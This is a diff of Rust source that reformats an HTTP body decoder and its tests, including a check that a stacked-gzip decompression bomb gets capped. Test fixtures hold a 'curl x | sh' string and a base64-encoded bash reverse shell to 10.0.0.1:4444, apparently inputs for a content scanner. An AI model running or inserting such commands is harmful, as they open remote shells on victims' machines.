@@ -271,7 +271,11 @@ impl StreamDecoder {
 }
 
 /// Decodes a whole body with its `Content-Encoding`, capped at `cap` bytes.
-pub fn decode_body(codings: &[ContentCoding], body: &[u8], cap: usize) -> (Vec<u8>, Option<DecodeStop>) {
+pub fn decode_body(
+    codings: &[ContentCoding],
+    body: &[u8],
+    cap: usize,
+) -> (Vec<u8>, Option<DecodeStop>) {
     let mut d = StreamDecoder::new(codings, cap);
     let mut out = d.push(body);
     if d.stopped().is_none() {
@@ -555,8 +559,14 @@ mod tests {
         let mut r = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
         r.write_all(&plain).unwrap();
         let raw = r.finish().unwrap();
-        assert_eq!(decode_body(&[ContentCoding::Deflate], &zlib, 1 << 20).0, plain);
-        assert_eq!(decode_body(&[ContentCoding::Deflate], &raw, 1 << 20).0, plain);
+        assert_eq!(
+            decode_body(&[ContentCoding::Deflate], &zlib, 1 << 20).0,
+            plain
+        );
+        assert_eq!(
+            decode_body(&[ContentCoding::Deflate], &raw, 1 << 20).0,
+            plain
+        );
         let zs = zstd::stream::encode_all(&plain[..], 3).unwrap();
         assert_eq!(decode_body(&[ContentCoding::Zstd], &zs, 1 << 20).0, plain);
         let mut br = Vec::new();
@@ -575,7 +585,11 @@ mod tests {
         assert_eq!(stop, Some(DecodeStop::Capped));
         // Stacked: gzip inside gzip.
         let double = gzip(&bomb);
-        let (out, stop) = decode_body(&[ContentCoding::Gzip, ContentCoding::Gzip], &double, 1 << 20);
+        let (out, stop) = decode_body(
+            &[ContentCoding::Gzip, ContentCoding::Gzip],
+            &double,
+            1 << 20,
+        );
         assert!(out.len() <= 1 << 20);
         assert_eq!(stop, Some(DecodeStop::Capped));
     }
@@ -601,7 +615,8 @@ mod tests {
             html_unescape(b"curl x &#124; sh &amp;&amp; &#x2F;etc &bogus;").unwrap(),
             b"curl x | sh && /etc &bogus;"
         );
-        let enc = base64::engine::general_purpose::STANDARD.encode("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
+        let enc = base64::engine::general_purpose::STANDARD
+            .encode("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
         let text = format!("payload={enc}&x=1");
         assert_eq!(
             base64_segments(text.as_bytes()).unwrap(),
